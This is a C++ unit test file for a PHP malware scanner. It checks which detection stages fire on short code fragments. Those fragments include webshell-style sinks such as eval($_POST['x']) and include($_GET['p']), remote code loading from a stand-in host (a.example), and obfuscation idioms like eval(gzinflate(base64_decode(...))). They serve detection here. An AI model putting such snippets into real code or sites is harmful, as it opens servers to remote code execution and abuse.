// Which stages the raw bytes of a file open: the table, and the words that rules bring along.
#include "rules/triggers.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include "rules/clauses.h"
#include "rules/rule_reader.h"
#include "unit/rules/rule_dir.h"

namespace backscan::rules::testing {
namespace {

Triggers triggers_of(std::string_view raw, const std::string& when = "{ raw: never_there }") {
  RuleDir dir;
  dir.add("mailer/x", when);
  const RuleSet rules = dir.load();
  Matcher matcher(rules);
  matcher.begin("a.php", raw.size());
  return matcher.scan_raw(raw);
}

TEST(Triggers, ThePatternsOfTheTableAreSound) {
  for (const TriggerPattern& trigger : trigger_patterns())
    EXPECT_EQ(pattern_error(std::string(trigger.pattern)), std::nullopt) << trigger.pattern;
}

TEST(Triggers, SeeEveryOpenTag) {
  for (const std::string_view raw : {"<?php x", "<?PHP\n", "<?= 1", "<?\nx", "<? x", "<?@x();", "<?$x=1;", "<?eval($x);", "<%= 1",
                                     "<script language=\"php\">", "<SCRIPT LANGUAGE = 'PHP'>"})
    EXPECT_TRUE(triggers_of(raw).php_tag) << raw;
  for (const std::string_view raw : {"<?xml version", "plain", "<script>"})
    EXPECT_FALSE(triggers_of(raw).php_tag) << raw;
}

TEST(Triggers, PlainCodeOpensNothing) {
  const Triggers stages = triggers_of(
      "<?php\nnamespace App;\nclass Model { public function get($id) { return $this->find($id); } "
      "}\n"
      "echo 'a sentence ' . 'and another';\n");
  EXPECT_TRUE(stages.php_tag);
  EXPECT_FALSE(stages.views);
  EXPECT_FALSE(stages.sinks);
  EXPECT_FALSE(stages.packed);
}

TEST(Triggers, MailAndRequestDrivenCodeOpenTheFlow) {
  for (const std::string_view raw :
       {"<?php mail($a, $b, $c);", "<?php @MAIL ($a);", "<?php $m->addAddress($x);",
        "<?php $f = fsockopen($h, 25);", "<?php eval($_POST['x']);",
        "<?php $_GET['f']($_GET['x']);", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $p);",
        "<?php include($_GET['p']);", "<?php $f = 'mail'; $f($a);",
        "<?php eval(file_get_contents('https://a.example/b'));",
        "<?php $url = \"http://a.example/b\"; copy($url, 'c.php');",
        "<?php fwrite($f, base64_decode($x));",
        "<?php call_user_func_array(assert, array($_POST['x']));",
        "<?php array_intersect_ukey($a, $_POST, $f);", "<?php $a = $$b; $f($a['x']);"})
    EXPECT_TRUE(triggers_of(raw).sinks) << raw;
}

TEST(Triggers, PackersOpenTheUnpacker) {
  for (const std::string_view raw :
       {"<?php eval(gzinflate(base64_decode('x')));", "<?php $a=\"\\x62\\x61\"; $a($b); eval($c);",
        "<?php goto a1;", "<?php $f = fopen(__FILE__, 'r');", "<?php $\xd0\xb0 = 1;",
        "<?php $GLOBALS['a']['b'](1);", "<?php $x = 'ba'.'se64_decode'; assert($x('..'));",
        "<?php $f = str_replace('q', '', 'cqreatqe_funqction');"})
    EXPECT_TRUE(triggers_of(raw).packed) << raw;
  EXPECT_TRUE(triggers_of("<?php $x = '" + std::string(300, 'Q') + "';").packed);
}

TEST(Triggers, HiddenWordsOpenTheViews) {
  for (const std::string_view raw :
       {"<?php $a = 'ma'.'il';", "<?php $a = \"ma\" . 'il';", "<?php $a = 'ma' ./* x */ 'il';",
        "<?php $a = \"m\\x61il\";", "<?php $a = \"m\\141il\";", "<?php $a = chr(109);",
        "<?php ${'GLO' . $x} = 1;", "<?php $$a = 1;", "<?php $a = 'AB' ^ 'cd';",
        "<?php $a = $s[3].$s[5];", "<?php $a = \"\\u{6d}ail\";", "<?php $a = ('ma').('il');"})
    EXPECT_TRUE(triggers_of(raw).views) << raw;
}

TEST(Triggers, RulesBringTheirOwnWords) {
  const std::string when =
      "{ all: [ { code: 'set_priority\\(' }, { any: [ { text: 'X-Letter' }, "
      "{ code: '\\$roster\\b' } ] } ] }";
  EXPECT_TRUE(triggers_of("<?php SET_priority /* */ ($x); $h = 'x-letter: 1';", when).views);
  EXPECT_TRUE(triggers_of("<?php set_priority($roster);", when).views);
  EXPECT_FALSE(triggers_of("<?php set_priority($x);", when).views);
  EXPECT_FALSE(triggers_of("<?php $x = 'X-Letter'; $roster = 1;", when).views);
  EXPECT_FALSE(triggers_of("set_priority($roster);", when).views) << "no PHP, no views";
}

TEST(Triggers, PatternsOverViewsAreFoundInTheSource) {
  const auto opens = [](std::string_view raw, const std::string& pattern) {
    return triggers_of(raw, "{ code: '" + pattern + "' }").views;
  };
  EXPECT_TRUE(opens("<?php Set_Up ( \"Rcpt to:\" );", "\\bset_up\\(''(?i:rcpt) to:''\\)"));
  EXPECT_TRUE(opens("<?php set_up(\"a {$roster['x']} b\");", "set_up\\(''a ''\\.\\$roster\\[''x''\\]"));
  EXPECT_TRUE(opens("<?php set_up(\"${roster}\");", "set_up\\(\\$roster"));
  EXPECT_TRUE(opens("<?php return $roster;", "\\breturn\\$roster"));
  EXPECT_TRUE(opens("<?php $x = \"To\\nX-Letter: 1\";", "\\bX-Letter: \\d"));
  EXPECT_TRUE(opens("<?php set_up(/* ; */ $roster);", "set_up\\(\\$roster"));
  EXPECT_TRUE(opens("<?php set_up(<<<EOT\nx\nEOT\n, $roster);", "set_up\\(''x'',\\$roster"));
  EXPECT_FALSE(opens("<?php $roster = set_up;", "set_up\\(\\$roster"));
}

TEST(Triggers, NotAsksForNothing) {
  const std::string when = "{ all: [ { code: 'set_priority' }, { not: { code: 'x_letter' } } ] }";
  EXPECT_TRUE(triggers_of("<?php set_priority(1);", when).views);
}

}  // namespace
}  // namespace backscan::rules::testing
